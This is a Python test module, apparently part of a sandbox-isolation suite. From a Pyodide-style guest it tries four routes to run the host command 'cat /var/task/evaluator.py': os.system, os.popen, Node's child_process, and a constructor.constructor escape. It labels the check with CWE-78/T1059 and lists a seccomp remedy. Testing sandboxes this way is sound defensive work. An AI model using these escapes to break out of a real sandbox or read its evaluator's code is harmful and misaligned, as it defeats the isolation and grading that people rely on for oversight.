# SPDX-License-Identifier: MIT
"""Goal:  a program of the host's runs, from a guest that has no processes.
Means: os.system(). A C library for the web hands it to its runtime, and under Node that starts a shell;
       so do os.popen(), the child_process module, and process.binding() behind it.
"""

import os

from attack import DONE, attempting, denied, telling

COPY = "cat /var/task/evaluator.py"


def by_system():
    return os.system(COPY) == 0


def by_popen():
    with os.popen(COPY) as pipe:
        text = pipe.read()
    print(text, flush=True)
    return bool(text)


def by_javascript():
    import js

    print(js.require("child_process").execSync(COPY).toString(), flush=True)
    return True


def by_constructor():
    import pyodide_js

    function = pyodide_js.constructor.constructor
    print(function("return process.getBuiltinModule('child_process').execSync('%s').toString()" % COPY)(),
          flush=True)
    return True


def run(brief):
    attempting()
    why = None
    for way in by_system, by_popen, by_javascript, by_constructor:
        try:
            if way():
                return DONE
            why = telling(why, "it printed nothing")
        except BaseException as error:
            why = telling(why, error)
    return denied("a program of the host's", why)


ATTACK = {
    "effect": "a program of the host's prints the evaluator's source",
    "means": "os.system(), os.popen(), Node's child_process",
    "oracle": "secret:task",
    "quick": True,
    "attack_id": "T1059, CWE-78",
    "remedy": "a runtime without processes; seccomp around it",
    "refs": ["system(3)"],
    "run": run,
}
